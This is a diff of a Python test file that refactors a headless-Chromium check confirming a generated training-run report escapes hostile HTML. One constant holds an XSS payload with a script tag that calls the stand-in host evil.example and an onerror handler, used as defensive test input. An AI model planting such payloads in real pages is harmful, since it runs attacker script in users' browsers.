@@ -2,19 +2,19 @@
 
 from __future__ import annotations
 
-import http.server
 import json
 import re
 import shutil
 import subprocess
-import threading
-import time
 from html.parser import HTMLParser
+from http.server import BaseHTTPRequestHandler
 from pathlib import Path
 
 import pytest
 from typer.testing import CliRunner
 
+from browser import browsing, needs_browser
+from local_server import LocalServer, send
 from toy_runs import Notes, toy_config, write_corpus
 from tpulm import pipeline, report
 from tpulm.cli.app import app
@@ -25,7 +25,6 @@ from tpulm.report.run import Reporter
 from tpulm.train.metrics import START, Attempt, MetricsRecord
 
 EVIL = "</title></section><script>document.title='taken'; fetch('http://evil.example/')</script><img src=x onerror=alert(1)>"
-CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
 
 
 class Tags(HTMLParser):
@@ -178,48 +177,32 @@ def test_the_log_of_an_attempt_says_what_a_step_is(workdir: Path) -> None:
     assert set(start["versions"]) == {"python", "tpulm", "jax", "jaxlib"} and start["device"].startswith("2 x ")
 
 
-class Visits(http.server.SimpleHTTPRequestHandler):
-    seen: list[str]
+class Visits(LocalServer):
+    """Has one page, and keeps what was asked for."""
 
-    def do_GET(self) -> None:
-        type(self).seen.append(f"{self.headers['Host']}{self.path}")
-        super().do_GET()
+    def __init__(self, page: bytes):
+        self.page, self.seen = page, list[str]()
+        super().__init__()
 
-    def log_message(self, format: str, *args: object) -> None:
-        pass
+    def answer(self, request: BaseHTTPRequestHandler, path: str, body: bytes) -> None:
+        self.seen.append(f"{request.headers['Host']}{path}")
+        send(request, 200, self.page, {"Content-Type": "text/html"})
 
 
-@pytest.mark.skipif(CHROMIUM is None, reason="no browser: install chromium (or google-chrome)")
+@needs_browser
 def test_a_browser_asks_for_the_page_alone_and_finds_no_fault(workdir: Path, tmp_path: Path) -> None:
-    """Every name leads to this server, which counts what is asked of it."""
-    assert CHROMIUM is not None
+    """Every name leads to this server."""
     copy = shutil.copytree(workdir, tmp_path / "w")
     values = json.loads((copy / "run.json").read_text())
     (copy / "run.json").write_text(json.dumps({**values, "description": EVIL}))
     report.write(copy)
-    seen: list[str] = []
-    handler = type("Handler", (Visits,), {"seen": seen})
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), lambda *given: handler(*given, directory=str(copy / "report")))
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    rules = f"--host-resolver-rules=MAP *:80 127.0.0.1:{server.server_port}, MAP * 127.0.0.1"
-    flags = [
-        "--headless",
-        "--no-sandbox",
-        "--disable-gpu",
-        "--disable-background-networking",
-        "--disable-component-update",
-        rules,
-    ]
-    command = [CHROMIUM, *flags, "--enable-logging=stderr", "--dump-dom", f"--user-data-dir={tmp_path / 'profile'}"]
-    began = time.monotonic()
-    with server:
-        done = subprocess.run(
-            [*command, f"http://127.0.0.1:{server.server_port}/index.html"], capture_output=True, text=True, timeout=120
-        )
-        server.shutdown()
-    assert EVIL.replace("<", "&lt;").replace(">", "&gt;") in done.stdout, (done.stderr[-2000:], time.monotonic() - began)
+    with Visits((copy / "report" / "index.html").read_bytes()) as server:
+        rules = f"MAP *:80 {server.url.removeprefix('http://')}, MAP * 127.0.0.1"
+        command = browsing(f"{server.url}/index.html", tmp_path, rules, "--enable-logging=stderr", "--dump-dom")
+        done = subprocess.run(command, capture_output=True, text=True, timeout=120)
+    assert EVIL.replace("<", "&lt;").replace(">", "&gt;") in done.stdout, done.stderr[-2000:]
     assert "CONSOLE" not in done.stderr, [line for line in done.stderr.splitlines() if "CONSOLE" in line]
     assert "<title>toy</title>" in done.stdout
     chromium = (".google.com", ".googleapis.com")
-    of_the_page = [name for name in seen if not name.partition("/")[0].endswith(chromium)]
-    assert {name.partition("/")[2] for name in of_the_page} <= {"index.html", "favicon.ico"}, seen
+    of_the_page = [name for name in server.seen if not name.partition("/")[0].endswith(chromium)]
+    assert {name.partition("/")[2] for name in of_the_page} <= {"index.html", "favicon.ico"}, server.seen
